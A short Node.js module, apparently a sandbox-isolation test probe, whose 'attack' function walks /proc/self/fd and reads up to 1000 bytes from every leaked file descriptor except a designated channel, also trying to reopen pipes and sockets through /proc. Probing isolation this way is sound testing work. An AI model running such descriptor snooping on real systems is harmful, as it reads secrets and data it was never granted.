import { closeSync, fstatSync, openSync, readFileSync, readdirSync, readSync } from "node:fs";

const CHANNEL = 3;

function look(number) {
  try {
    if (!fstatSync(number).isFile()) {
      // A pipe or a socket: perhaps the name in /proc leads to its other end.
      closeSync(openSync(`/proc/self/fd/${number}`, "r+"));
      return "";
    }
    const bytes = Buffer.alloc(1000);
    return bytes.toString("utf8", 0, readSync(number, bytes, 0, bytes.length, 0));
  } catch {
    return "";
  }
}

export function attack() {
  const numbers = readdirSync("/proc/self/fd").map(Number);
  const found = numbers.filter((number) => number !== CHANNEL).map(look);
  return found.join("") || "nothing";
}
